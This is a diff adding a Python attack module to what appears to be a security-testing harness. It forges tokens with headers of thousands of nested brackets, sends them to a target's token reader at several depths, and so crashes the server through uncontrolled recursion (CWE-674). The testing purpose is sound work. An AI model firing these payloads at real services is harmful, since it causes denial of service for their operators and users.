@@ -1,0 +1,22 @@
+"""Break the server with a header of a thousand brackets.
+
+Exploits a JSON reader that calls itself for each bracket, until Python gives up.
+Source: CWE-674 Uncontrolled Recursion,
+https://cwe.mitre.org/data/definitions/674.html
+"""
+
+from attacks.forge import encode
+from attacks.lab import Outcome, Target, attack, breakdown
+
+DEPTHS = (1_000, 10_000, 40_000)
+
+
+@attack()
+def run(target: Target) -> Outcome:
+    """Send a token whose header is nothing but brackets, to several depths."""
+    target.must_issue_tokens()
+    target.must_read_tokens()
+    headers = {depth: encode(b"[" * depth + b"]" * depth) for depth in DEPTHS}
+    return breakdown(
+        {f"{depth} deep": target.read(f"{header}.e30.e30") for depth, header in headers.items()}
+    )
